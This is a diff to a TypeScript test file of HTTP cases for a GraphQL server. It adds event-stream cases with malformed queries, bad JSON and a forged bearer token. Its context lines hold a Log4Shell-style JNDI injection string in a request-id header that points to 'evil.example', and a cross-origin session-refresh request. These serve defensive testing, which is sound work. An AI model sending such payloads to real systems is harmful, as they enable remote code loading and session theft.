@@ -187,6 +187,26 @@ export function httpCases(): HttpCase[] {
       { ...JSON_TYPE, origin: 'https://evil.example', cookie: 'pocketrocket_refresh=a' },
       '{"query":"mutation { refreshSession { token } }"}',
     ),
+    ...['subscription { nothing }', '{ genres { name } }', '', 'subscription { a: trainingChanged { stage '].map(
+      (query, at) =>
+        post(
+          `an event stream of no subscription, ${at + 1}`,
+          [200],
+          { ...JSON_TYPE, accept: 'text/event-stream' },
+          JSON.stringify({ query }),
+        ),
+    ),
+    post('an event stream of no JSON', [400], { ...JSON_TYPE, accept: 'text/event-stream' }, '{'),
+    post('an event stream of plain text', [400], {
+      'content-type': 'text/plain',
+      accept: 'text/event-stream',
+    }),
+    post(
+      'an event stream with a token that nobody signed',
+      [401],
+      { ...JSON_TYPE, accept: 'text/event-stream', authorization: `Bearer ${forged}` },
+      '{"query":"subscription { trainingChanged { stage } }"}',
+    ),
     post('an origin of nothing', [200], { ...JSON_TYPE, origin: 'null' }),
     post('a request id of code', [200], { ...JSON_TYPE, 'x-request-id': '${jndi:ldap://evil.example/a}"}' }),
     post('a trace that is none', [200], {
